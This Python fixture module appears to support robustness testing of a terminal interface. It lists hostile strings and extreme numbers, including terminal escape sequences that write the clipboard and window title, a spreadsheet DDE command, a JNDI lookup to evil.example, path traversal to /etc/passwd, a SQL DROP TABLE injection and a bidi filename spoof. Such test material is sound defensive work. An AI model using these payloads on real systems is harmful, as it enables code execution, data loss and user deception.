"""Texts and numbers that have harmed terminals, readers, spreadsheets or parsers."""

from __future__ import annotations

C0 = "".join(map(chr, range(0x20))) + "\x7f"
C1 = "".join(map(chr, range(0x80, 0xA0)))
FORMAT = "\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2060\u2061\ufeff\U000e0041\U000e0001"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNSEEN = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u3164\uffa0\ufe0e\ufe0f\U000e0100"
"""Letters and marks that take no ink (Unicode: Default_Ignorable_Code_Point)."""

TEXTS = {
    "markup": "[bold]x[/] [/x] [red [/",
    "an action": "[@click=app.quit]press me[/]",
    "an action with arguments": "[@click=app.pay('x')]press me[/]",
    "a link of markup": "[link=http://evil.example]here[/link]",
    "theme variables": "$foreground on $live",
    "escaped markup": "\\[x] \\\\[/x]",
    "every C0 control": f"c0{C0}end",
    "every C1 control": f"c1{C1}end",
    "a cleared screen": "\x1b[2J\x1b[H\x1b[31mred\x1b[?1049l",
    "a cleared screen in C1": "\x9b2J\x9b31mred",
    "a title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "a clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "a clipboard in C1": "\x9d52;c;ZXZpbA==\x9c",
    "a link of the terminal": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "pictures": "\x1bPq#0;2;0;0;0~-\x1b\\ \x90q~\x9c",
    "other strings": "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\\x9fapc\x9c",
    "questions": "\x1b[6n\x1b[c\x1b[5n\x1b]10;?\x07\x05",
    "a reset": "\x1bc\x1b[!p\x0e\x1b(0",
    "direction": f"safe{BIDI}exe.txt",
    "zero width": f"a{'b'.join(FORMAT)}c",
    "unseen letters": f"u{UNSEEN}v",
    "towers of marks": "Z" + "\u0336\u0311\u0489\u20dd" * 100 + "end",
    "half surrogates": "half \ud800 and \udfff",
    "no characters": "\ue000\uffff\ufdd0\U0010ffff\U0001fffe",
    "line ends": "one\r\ntwo\u2028three\u2029four\x85five\vsix",
    "letters of other alphabets": "Gl\u043ebex",
    "wide letters": "東京貿易株式会社" * 12,
    "right to left": "שלום עולם مؤسسة الأمل",
    "joined pictures": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽",
    "a formula": '=HYPERLINK("http://evil.example","here")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a cell that ends": '"x",y\t"z"',
    "format strings": "%s%n{0.__class__}{{}}${jndi:ldap://evil.example}",
    "a path": "../../../etc/passwd\x00.csv",
    "a statement": "'; DROP TABLE entries; --",
    "blanks": " \u00a0\u3000\u2003",
    "nothing": "",
    "very long": "long" * 750,
}

JOINED = "joined " + " ".join(text for text in TEXTS.values() if len(text) < 1_000)
"""All of them in one text, so that one look at a screen sees them all."""

MILLION = "M" * 1_000_000
"""Beside the others: in one field alone, or an answer would be too long to be read at all."""

NUMBERS = {
    "beyond a double": "1e999",
    "beyond any decimal": "1e99999999999",
    "next to nothing": "1e-999",
    "no number": "NaN",
    "without end": "Infinity",
    "without end below": "-Infinity",
    "less than nothing": "-0",
    "four hundred digits": "9" * 400,
    "forty digits": "9" * 40,
    "ten to the fifty": "1e50",
    "many places": "0." + "1" * 39,
    "a whole number of 5,000 digits": "7" * 5_000,
}
"""As they stand in an answer, without quotes."""
